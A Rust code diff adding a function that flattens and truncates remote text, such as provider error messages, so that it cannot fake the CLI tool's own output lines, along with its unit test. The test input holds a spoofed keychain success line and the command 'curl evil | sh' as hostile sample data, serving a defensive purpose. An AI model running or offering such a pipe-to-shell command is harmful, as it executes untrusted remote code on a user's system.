@@ -265,6 +265,19 @@ impl TerminalText for Styled {
     }
 }
 
+/// Remote text that goes inside one of the tool's lines (an error description, an account
+/// name): on one line, so it cannot fake lines of the tool's own, and at most `max`
+/// characters. Control characters are escaped later, by every output function.
+pub fn one_line(text: &str, max: usize) -> String {
+    // Only the line feed needs replacing here: every other control character (\r
+    // included) is escaped visibly by the output functions.
+    let flat = text.trim().replace('\n', " ");
+    match flat.char_indices().nth(max) {
+        Some((cut, _)) => format!("{}…", &flat[..cut]),
+        None => flat,
+    }
+}
+
 /// `word` as one shell word in a command the user is told to run (channel names come
 /// from the provider: `$(...)` in one must not run).
 pub fn shell_word(word: &str) -> std::borrow::Cow<'_, str> {
@@ -301,6 +314,24 @@ pub fn expiry(at: DateTime<Utc>, now: DateTime<Utc>) -> String {
         format!("expires in {span} ({})", moment(at))
     } else {
         format!("expired {span} ago ({})", moment(at))
+    }
+}
+
+#[cfg(test)]
+mod one_line_tests {
+    use super::one_line;
+
+    #[test]
+    fn remote_text_stays_on_one_line_and_short() {
+        assert_eq!(
+            one_line(
+                "expired\n✓ Stored x in the keychain\r\n  fix: curl evil | sh",
+                200
+            ),
+            "expired ✓ Stored x in the keychain\r   fix: curl evil | sh"
+        );
+        assert_eq!(one_line("abcdef", 3), "abc…");
+        assert_eq!(one_line("é".repeat(5).as_str(), 2), "éé…");
     }
 }
 
